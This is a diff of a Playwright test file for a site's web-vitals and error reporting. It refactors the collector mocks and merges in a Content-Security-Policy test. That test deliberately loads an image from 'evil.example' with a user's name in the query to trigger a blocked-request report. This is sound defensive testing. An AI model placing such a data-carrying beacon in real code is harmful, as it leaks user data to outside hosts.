@@ -3,9 +3,10 @@ import { SourceMap } from 'node:module';
 import { basename, join } from 'node:path';
 import type { Page, Request, Route } from '@playwright/test';
 import { z } from 'zod';
-import { unsignedToken } from '../../local-backend/storage/unsigned-token';
 import { buildSite } from '../global-setup';
-import { button, copy, expect, fill, paths, test } from './fixtures';
+import { unsignedToken } from '../support/unsigned-token';
+import { button, copy } from './account-area';
+import { expect, fill, paths, test } from './fixtures';
 
 // The emulators do not support App Check, and the local site has no collector. These tests build
 // the site as for a real project, mock Google and the collector, and check the requests of the site
@@ -47,7 +48,7 @@ const WITH_TOKEN = ['accounts:signInWithPassword', 'documents:batchGet', 'comple
 
 // One worker, so that the site is built once.
 test.describe.configure({ mode: 'default' });
-test.use({ expectedConsole: /ERR_FAILED|status of 400/ });
+test.use({ baseURL: SITE, expectedConsole: /ERR_FAILED|status of 400/ });
 
 test.beforeAll(async () => {
   buildSite(FOLDER, {
@@ -57,6 +58,24 @@ test.beforeAll(async () => {
     VITE_FIREBASE_STORAGE_BUCKET: 'bucket',
     VITE_APP_CHECK_SITE_KEY: 'site-key',
     VITE_REPORT_URL: COLLECTOR,
+  });
+});
+
+let reports: unknown[] = [];
+test.beforeEach(async ({ page }) => {
+  reports = [];
+  await page.route(COLLECTOR, async (route) => {
+    const request = route.request();
+    if (request.method() !== 'OPTIONS') {
+      expect(request.headers()['content-type']).toBe('application/json');
+      reports.push(request.postDataJSON());
+    }
+    await route.fulfill({ headers: corsFor(request) });
+  });
+  // As Hosting does, with clean URLs.
+  await page.route(`${SITE}/**`, async (route) => {
+    const file = join(FOLDER, new URL(route.request().url()).pathname);
+    await route.fulfill({ path: existsSync(file) ? file : `${file}.html` });
   });
 });
 
@@ -76,29 +95,30 @@ for (const [state, recaptcha] of [
   });
 }
 
-test('reports web vitals of a public page without loading account code', async ({ page }) => {
-  const requested: string[] = [];
-  page.on('request', (request) => requested.push(new URL(request.url()).pathname));
-  await page.route(`${SITE}/**`, serve);
-  const reports = await collect(page);
-  await page.goto(`${SITE}${paths.premium}`, { waitUntil: 'networkidle' });
-  expect(requested.filter((path) => /account|auth|firebase|react/i.test(path))).toEqual([]);
-  // The first interaction finalizes LCP.
-  await page.keyboard.press('Shift');
-  await expect
-    .poll(() => reports)
-    .toContainEqual({
-      kind: 'vital',
-      what: 'LCP',
-      value: expect.any(Number),
-      page: paths.premium,
-      build: BUILD,
+test.describe('a public page', () => {
+  test.use({ expectedConsole: /Content Security Policy/ });
+
+  test('reports web vitals and violations of its policy', async ({ page }) => {
+    const requested: string[] = [];
+    page.on('request', (request) => requested.push(new URL(request.url()).pathname));
+    await page.goto(paths.premium, { waitUntil: 'networkidle' });
+    expect(requested.filter((path) => /account|auth|firebase|react/i.test(path))).toEqual([]);
+    const common = { page: paths.premium, build: BUILD };
+    // The first interaction finalizes LCP.
+    await page.keyboard.press('Shift');
+    const value = expect.any(Number);
+    const vital = { kind: 'vital', what: 'LCP', value, ...common };
+    await expect.poll(() => reports).toContainEqual(vital);
+    await page.evaluate(() => {
+      new Image().src = 'https://evil.example/?name=jane';
     });
+    // Without the URL.
+    const violation = { kind: 'violation', what: 'img-src', code: 'other', ...common };
+    await expect.poll(() => reports).toContainEqual(violation);
+  });
 });
 
-test('reports a failure with the place in the code, which the source maps find', async ({
-  page,
-}) => {
+test('reports a failure with its place in the source', async ({ page }) => {
   // A code of Firebase that no form expects.
   await page.route(/googleapis\.com|google\.com/, (route) =>
     route.fulfill({
@@ -107,9 +127,7 @@ test('reports a failure with the place in the code, which the source maps find',
       headers: corsFor(route.request()),
     }),
   );
-  await page.route(`${SITE}/**`, serve);
-  const reports = await collect(page);
-  await page.goto(`${SITE}${paths.logIn}`);
+  await page.goto(paths.logIn);
   await fill(page, { email: 'jane@example.com', password: 'sailing1' });
   await button(page, copy.logIn.submit).click();
   const at = expect.stringMatching(/^\/assets\/[\w-]+\.js:\d+:\d+$/);
@@ -129,28 +147,6 @@ test('reports a failure with the place in the code, which the source maps find',
   expect(readdirSync(join(FOLDER, 'assets')).filter((name) => name.endsWith('.map'))).toEqual([]);
 });
 
-test.describe('a Content-Security-Policy violation', () => {
-  test.use({ expectedConsole: /Content Security Policy/ });
-
-  test('is reported without its URL', async ({ page }) => {
-    await page.route(`${SITE}/**`, serve);
-    const reports = await collect(page);
-    await page.goto(`${SITE}${paths.premium}`, { waitUntil: 'networkidle' });
-    await page.evaluate(() => {
-      new Image().src = 'https://evil.example/?name=jane';
-    });
-    await expect
-      .poll(() => reports)
-      .toContainEqual({
-        kind: 'violation',
-        what: 'img-src',
-        code: 'other',
-        page: paths.premium,
-        build: BUILD,
-      });
-  });
-});
-
 /**
  * Logs in and claims a username.
  *
@@ -160,10 +156,8 @@ async function signUpWith(page: Page, recaptcha: (route: Route) => Promise<void>
   const sent = new Map<string, string | undefined>();
   await page.route(/googleapis\.com|cloudfunctions\.net/, (route) => respond(route, sent));
   await page.route('https://www.google.com/recaptcha/**', recaptcha);
-  await page.route(`${SITE}/**`, serve);
-  await collect(page);
 
-  await page.goto(`${SITE}${paths.logIn}`);
+  await page.goto(paths.logIn);
   await fill(page, { email: 'jane@example.com', password: 'sailing1' });
   await button(page, copy.logIn.submit).click();
   await page.waitForURL(`**${paths.username}`);
@@ -185,23 +179,3 @@ const corsFor = (request: Request) => ({
   'access-control-allow-origin': SITE,
   'access-control-allow-headers': request.headers()['access-control-request-headers'] ?? '*',
 });
-
-/** @returns the reports that the collector receives from now on */
-async function collect(page: Page): Promise<unknown[]> {
-  const reports: unknown[] = [];
-  await page.route(COLLECTOR, async (route) => {
-    const request = route.request();
-    if (request.method() !== 'OPTIONS') {
-      expect(request.headers()['content-type']).toBe('application/json');
-      reports.push(request.postDataJSON());
-    }
-    await route.fulfill({ headers: corsFor(request) });
-  });
-  return reports;
-}
-
-/** Serves the site as Hosting does, with clean URLs. */
-async function serve(route: Route): Promise<void> {
-  const file = join(FOLDER, new URL(route.request().url()).pathname);
-  await route.fulfill({ path: existsSync(file) ? file : `${file}.html` });
-}
